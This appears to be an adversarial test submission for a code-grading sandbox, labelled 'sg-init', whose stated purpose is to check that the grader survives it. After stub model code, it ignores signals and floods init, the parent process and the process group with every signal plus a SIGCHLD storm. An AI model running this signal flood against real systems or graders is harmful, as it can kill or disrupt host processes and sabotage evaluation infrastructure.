"""
attack: sg-init
class: signal
tries: sends every signal to init, its process group, everybody, and a storm of SIGCHLD
must: score 0, verdict wrong|error|crash, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


import os
import signal

for number in range(1, 65):
    if number in (signal.SIGKILL, signal.SIGSTOP):
        continue
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
parent = os.getppid()
for target in (1, parent, 0):
    for number in range(1, 65):
        if target == 0 and number in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
            continue
        try:
            os.kill(target, number)
        except OSError:
            pass
for _ in range(20_000):
    try:
        os.kill(parent, signal.SIGCHLD)
    except OSError:
        break
